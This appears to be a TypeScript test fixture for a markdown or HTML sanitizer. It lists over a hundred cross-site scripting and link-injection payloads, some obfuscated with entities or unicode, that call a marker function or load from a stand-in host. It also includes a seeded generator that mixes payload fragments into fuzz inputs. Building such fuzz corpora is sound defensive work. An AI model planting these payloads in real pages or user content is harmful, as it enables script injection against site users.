/** Things that were once ways to run a program inside somebody else's page, each calling `hong()` if it ever runs. */
export const HOSTILE: readonly string[] = [
  '<script>hong()</script>',
  '<SCRIPT SRC=//noi-khac.test/x.js></SCRIPT>',
  '<scr<script>ipt>hong()</scr</script>ipt>',
  '<img src=x onerror=hong()>',
  '<img/src="x"/onerror=hong()//',
  '<svg onload=hong()>',
  '<svg><script>hong()</script></svg>',
  '<svg><animate onbegin=hong() attributeName=x dur=1s>',
  '<svg><a xlink:href="javascript:hong()"><text y=20>x</text></a></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=hong()&gt;">',
  '<math><mi//xlink:href="data:x,<script>hong()</script>">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=hong()>',
  '<noscript><p title="</noscript><img src=x onerror=hong()>">',
  '<iframe src="javascript:hong()"></iframe>',
  '<iframe srcdoc="<script>parent.hong()</script>"></iframe>',
  '<object data="javascript:hong()">',
  '<embed src="javascript:hong()">',
  '<style>@import "//noi-khac.test/x.css";*{background:url(javascript:hong())}</style>',
  '<link rel=stylesheet href=//noi-khac.test/x.css>',
  '<base href="//noi-khac.test/">',
  '<meta http-equiv=refresh content="0;url=javascript:hong()">',
  '<body onload=hong()>',
  '<details open ontoggle=hong()>',
  '<input autofocus onfocus=hong()>',
  '<video><source onerror=hong()></video>',
  '<audio src=x onerror=hong()>',
  '<marquee onstart=hong()>',
  '<isindex action="javascript:hong()" type=image>',
  '<template><script>hong()</script></template>',
  '<xmp><p title="</xmp><svg/onload=hong()>">',
  '<textarea><script>hong()</script></textarea>',
  '<title><img src=x onerror=hong()></title>',
  '<a href="javascript:hong()">x</a>',
  '<a href=" &#14; javascript:hong()">x</a>',
  '<a href="jav&#x09;ascript:hong()">x</a>',
  '<a href="java\nscript:hong()">x</a>',
  '<a href="vbscript:hong()">x</a>',
  '<a href="data:text/html,<script>hong()</script>">x</a>',
  '<p style="background:url(javascript:hong())">x</p>',
  '<!--[if gte IE 4]><script>hong()</script><![endif]-->',
  '<!--><img src=x onerror=hong()>-->',
  '<![CDATA[<script>hong()</script>]]>',
  '<?xml version="1.0"?><script>hong()</script>',
  '</p><script>hong()</script><p>',
  '[x](javascript:hong())',
  '[x](JaVaScRiPt:hong())',
  '[x](javascript&colon;hong())',
  '[x](&#106;avascript:hong())',
  '[x](&#x6A;&#x61;vascript:hong())',
  '[x](java%0ascript:hong())',
  '[x](\u0001javascript:hong())',
  '[x](java\u200bscript:hong())',
  '[x](<javascript:hong()>)',
  '[x](<java\tscript:hong()>)',
  '[x](javascript:hong() "y")',
  '[x](data:text/html;base64,PHNjcmlwdD5ob25nKCk8L3NjcmlwdD4=)',
  '[x](vbscript:hong())',
  '[x](file:///etc/passwd)',
  '[x](//noi-khac.test/)',
  '[x](/\\noi-khac.test/)',
  '[x](\\\\noi-khac.test/)',
  '[x](https:noi-khac.test)',
  '[x](https://ngan-hang.test@noi-khac.test/)',
  '[x](https://noi-khac.test/"onmouseover="hong())',
  "[x](https://noi-khac.test/'onmouseover='hong())",
  '[x](/a"onclick="hong())',
  '[x](#" onclick="hong())',
  '[x](mailto:a@b.test?body=<script>hong()</script>)',
  '[x]: javascript:hong()\n\n[x]',
  '[x]: <javascript:hong()> "t"\n\n[x][]',
  '<javascript:hong()>',
  '<javascript:hong()//@b.test>',
  '![x](javascript:hong())',
  '![x](https://noi-khac.test/x.png)',
  '![x](data:image/svg+xml,<svg onload=hong()>)',
  '![x](x"onerror="hong())',
  '![x" onerror="hong()](anh:anhthu0000000001)',
  '![x](anh:anhthu0000000001 "onerror=hong()")',
  '![x](anh:anhthu0000000001"onerror="hong())',
  '![<img src=x onerror=hong()>](anh:anhthu0000000001)',
  '![x](anh:../../x)',
  '[![x](anh:anhthu0000000001)](javascript:hong())',
  '[a [b](javascript:hong()) c](javascript:hong())',
  '`<script>hong()</script>`',
  '```html\n<script>hong()</script>\n```',
  '~~~"><script>hong()</script>\nx\n~~~',
  '    <script>hong()</script>',
  '&lt;script&gt;hong()&lt;/script&gt;',
  '&amp;lt;script&amp;gt;hong()',
  '&#60;img src=x onerror=hong()&#62;',
  '&#x3c;svg/onload=hong()&#x3e;',
  '\u202e<tpircs>',
  '\uff1cscript\uff1ehong()\uff1c/script\uff1e',
  '\u003c\u0000script>hong()</script>',
  '<a\u2028href="javascript:hong()">x</a>',
  '\ud800<script>hong()</script>\udfff',
  '# <img src=x onerror=hong()>\n## [x](javascript:hong())',
  '> <svg onload=hong()>\n> - <img src=x onerror=hong()>',
  '| <img src=x onerror=hong()> |\n|-|\n| x |',
  '- [ ] <script>hong()</script>',
  '${hong()} {{constructor.constructor("hong()")()}} <%= hong() %>',
  '\\<script>hong()\\</script>',
  '**<b onmouseover=hong()>x**</b>',
  '<p/onclick=hong() <b>',
  '<a href="#" ping="//noi-khac.test/">x</a>',
  '<div id=cookie name=body><form id=x></form><button form=x formaction=javascript:hong()>',
];

const PIECES: readonly string[] = [
  ...HOSTILE,
  ...'< > </ /> " \' ` & &# &#x ; : ( ) [ ] ![ ]( ](< >) * ** _ # - > | ~ \\ / // = { } @ \n \n\n \t'.split(
    ' ',
  ),
  ...['\n', '\n\n', '\n> ', '\n- ', '\n# ', ' ', '    ', '\u0000', '\u200b', '\u202e', '\u2028'],
  ...['javascript:', 'data:', 'vbscript:', 'https://', 'mailto:', 'anh:', 'hong()', 'onerror='],
  ...[
    '<!--',
    '-->',
    '<![CDATA[',
    ']]>',
    '<svg',
    '<math',
    '<style>',
    '</style>',
    '<a href=',
    '<img',
  ],
  ...[
    '&lt;',
    '&gt;',
    '&quot;',
    '&colon;',
    '&NewLine;',
    '&Tab;',
    '&#106;',
    '&#x6a',
    'Mật ong',
    'chè',
  ],
  'anhthu0000000001',
];

/** Mixtures of hostile pieces, cut and joined by a fixed chance: the same every time. */
export function* hostileTexts(count: number, seed = 20_261_123): Generator<string> {
  let state = seed;
  const chance = (below: number): number => {
    state = (Math.imul(state ^ (state >>> 15), 0x2c1b3c6d) + 0x9e3779b9) >>> 0;
    return ((state ^ (state >>> 13)) >>> 0) % below;
  };
  for (let i = 0; i < count; i += 1) {
    let text = '';
    for (let left = 1 + chance(7); left > 0; left -= 1) {
      let piece = PIECES[chance(PIECES.length)] ?? '';
      const how = chance(8);
      if (how === 0) piece = piece.slice(chance(piece.length + 1));
      if (how === 1) piece = piece.slice(0, chance(piece.length + 1));
      if (how === 2) piece = piece.toUpperCase();
      if (how === 3 && piece.length > 1) {
        const at = chance(piece.length);
        piece = piece.slice(0, at) + (PIECES[chance(PIECES.length)] ?? '') + piece.slice(at);
      }
      text += piece;
    }
    yield text;
  }
}
